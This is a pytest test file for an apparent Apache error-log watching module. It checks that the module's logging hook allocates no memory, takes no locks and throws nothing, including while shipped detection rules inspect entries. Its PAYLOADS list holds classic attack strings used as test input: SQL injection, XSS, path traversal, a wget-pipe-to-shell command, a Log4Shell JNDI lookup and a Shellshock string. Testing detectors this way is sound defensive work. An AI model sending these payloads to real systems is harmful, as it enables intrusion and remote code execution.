"""The error_log hook is a signal handler in spirit: it takes no memory, no lock, logs nothing and throws nothing.

count_alloc.so is preloaded and counts, in the thread that logs, between the first and the last error_log hook; nothing but the module's own
hook runs between them."""
import pytest

from harness import paths

pytestmark = pytest.mark.skipif(paths.is_sanitized(), reason="a sanitizer takes memory of its own")
FORBIDDEN = ("allocations", "frees", "pool_allocations", "locks", "throws", "nested")


class Counted:
    @classmethod
    def configure(cls, config):
        config.errprobe()
        config.known_entries = r"\berrprobe\b|AH\d{5}|something happened|stderr from"
        config.errwatch("ErrWatchLimit resource_exhaustion 20/10m\nErrWatchLimit auth_failure 20/10m\n")

    def probe(self, client, query):
        response = client.get(f"/probe?{query}")
        assert response.status == 200, response
        counted = response.json()
        assert counted["counting"] == 1, "count_alloc.so is not loaded"
        return counted


ENTRIES = [
    # Matched by AH number, by text, by nothing; short and long; with and without a request; in a thread of its own.
    "format=AH01630&text=/x",
    "format=AH01617&text=alice",
    "format=AH00128&text=/x&level=info&module=core.c",
    "format=plain&text=nothing+known",
    "format=untagged&text=something",
    "format=generic&text=AH01630:+inside",
    "format=plain&text=AH01630:+client+denied+by+server+configuration:+/x",
    "format=AH01630&text=%c3%28%ff%01%0a%22%5c",
    "format=AH01630&text=abcdefgh+union+select+&size=8192",
    "format=plain&text=%2e%2e%2f&size=8192",
    "format=plain&text=%25&size=8192",
    "format=AH01630&text=/x&with=c",
    "format=AH00484&text=&with=s",
    "format=plain&text=x&with=null",
    "format=plain&text=x&with=pool",
    "format=AH01630&text=x&with=fake",
    "format=AH01630&text=x&with=fake_r",
    "format=AH01630&text=x&null=uri,unparsed_uri,the_request,method,args,filename",
    "format=AH01630&text=x&count=50",
    "format=AH01630&text=<script>alert(1)</script>&count=3",
]


@pytest.mark.all_mpms
class TestTestRules(Counted):
    @classmethod
    def configure(cls, config):
        super().configure(config)
        config.preload.append("count_alloc.so")

    @pytest.mark.parametrize("query", ENTRIES)
    def test_entry(self, client, query):
        counted = self.probe(client, query)
        assert {name: counted[name] for name in FORBIDDEN} == dict.fromkeys(FORBIDDEN, 0)

    # The entries that open an incident and block, and all that come after.
    def test_block(self, server, client, log):
        log.expect_blocked(client)
        with client.connect() as connection:
            for _ in range(20):
                counted = connection.get("/probe?format=AH00128&text=/x").json()
                assert {name: counted[name] for name in FORBIDDEN} == dict.fromkeys(FORBIDDEN, 0)
            assert connection.get("/probe?format=AH01630&text=/x").status == 403


class TestShippedRules(Counted):
    """With every shipped rule, and all event kinds: the longest way an entry can take."""

    @classmethod
    def configure(cls, config):
        config.errprobe()
        config.known_entries = r"\berrprobe\b|AH\d{5}|something happened|stderr from|EW010"
        config.preload.append("count_alloc.so")
        config.errwatch("Include ${CONF}/rules/*.conf\nErrWatchInspect all\nErrWatchEventLog logs/events.json events=block,incident,entry\n"
                        "ErrWatchEngine DetectionOnly\nErrWatchLimit any 30/1m\n", rules="")

    PAYLOADS = ["/page.html?id=1' UNION SELECT password FROM users--", "<script>alert(1)</script>", "../../../../etc/passwd",
                ";wget http://198.51.100.1/x.sh|sh", "${jndi:ldap://198.51.100.1/a}", "PHP Fatal error:  Uncaught Exception",
                "() { :; }; /bin/bash -c id", "sqlmap/1.7", "%c0%ae%c0%ae/", "A" * 2000]

    @pytest.mark.parametrize("query", ENTRIES)
    def test_entry(self, client, query):
        counted = self.probe(client, query)
        assert {name: counted[name] for name in FORBIDDEN} == dict.fromkeys(FORBIDDEN, 0)

    @pytest.mark.parametrize("number", range(len(PAYLOADS)))
    @pytest.mark.parametrize("form", ["plain", "AH01630", "AH00128"])
    def test_payload(self, server, number, form):
        payload = "".join(f"%{byte:02x}" for byte in self.PAYLOADS[number].encode())
        client = server.client()
        headers = {"User-Agent": self.PAYLOADS[number][:300], "Cookie": "a=" + self.PAYLOADS[number][:300],
                   "X-Forwarded-Host": self.PAYLOADS[number][:300]}
        response = client.get(f"/probe?format={form}&text={payload}", headers)
        counted = response.json()
        assert {name: counted[name] for name in FORBIDDEN} == dict.fromkeys(FORBIDDEN, 0)


class TestTheProofItself(Counted):
    """A hook that does what is forbidden is noticed."""

    @classmethod
    def configure(cls, config):
        super().configure(config)
        config.known_entries += "|logged from inside a hook"
        config.preload.append("count_alloc.so")
        config.add("ErrProbeBadHook On")

    def test_noticed(self, client):
        counted = self.probe(client, "format=AH01630&text=x")
        assert counted["allocations"] >= 1 and counted["frees"] >= 1 and counted["pool_allocations"] >= 1
        assert counted["locks"] >= 1 and counted["nested"] == 1
